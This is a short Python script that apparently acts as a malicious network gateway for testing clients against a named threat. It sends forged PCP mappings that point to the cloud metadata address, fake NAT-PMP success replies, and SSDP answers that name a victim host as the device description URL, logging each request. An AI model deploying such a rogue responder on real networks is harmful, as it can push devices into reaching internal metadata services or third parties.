"""A gateway that means no good (threat NT-09): by PCP it gives addresses that lead inside, or, an
"old" one, by NAT-PMP; by UPnP it names somebody else as the place of its description. Says what it
was asked, a line each."""

import os
import socket
import sys
import threading

VICTIM, IS_OLD = sys.argv[1], sys.argv[2:] == ["old"]


def say(*words):
    # Both threads write: a line in one piece.
    os.write(1, (" ".join(map(str, words)) + "\n").encode())


def pcp():
    at = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    at.bind(("0.0.0.0", 5351))
    while True:
        asked, whom = at.recvfrom(1100)
        if asked[0] == 2 and IS_OLD:
            # Version 0, "unsupported version".
            at.sendto(bytes([0, 0x81, 0, 1]) + bytes(4), whom)
        elif asked[0] == 0 and asked[1] == 0:
            at.sendto(bytes([0, 0x80, 0, 0, 0, 0, 0, 9, 10, 0, 0, 1]), whom)
        elif asked[0] == 0 and asked[1] == 1:
            at.sendto(bytes([0, 0x81, 0, 0, 0, 0, 0, 9]) + asked[4:12], whom)
            say("NAT-PMP lifetime", int.from_bytes(asked[8:12], "big"))
        elif asked[0] == 2 and asked[1] == 1:
            # Success, for ever, at the metadata service of clouds, port 80.
            head = bytes([2, 0x81, 0, 0]) + bytes([255] * 4) + bytes([0, 0, 0, 9]) + bytes(12)
            outside = bytes(10) + bytes([255, 255, 169, 254, 169, 254])
            at.sendto(head + asked[24:42] + bytes([0, 80]) + outside, whom)
            say("PCP", len(asked), "lifetime", int.from_bytes(asked[4:8], "big"))


def ssdp():
    at = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    at.bind(("0.0.0.0", 1900))
    while True:
        asked, whom = at.recvfrom(1500)
        kind = asked.split(b"ST:")[1].split(b"\r\n")[0].decode()
        answer = f"HTTP/1.1 200 OK\r\nST: {kind}\r\nLOCATION: http://{VICTIM}/d.xml\r\n\r\n"
        at.sendto(answer.encode(), whom)
        say("SSDP", kind)


for work in (pcp, ssdp):
    threading.Thread(target=work).start()
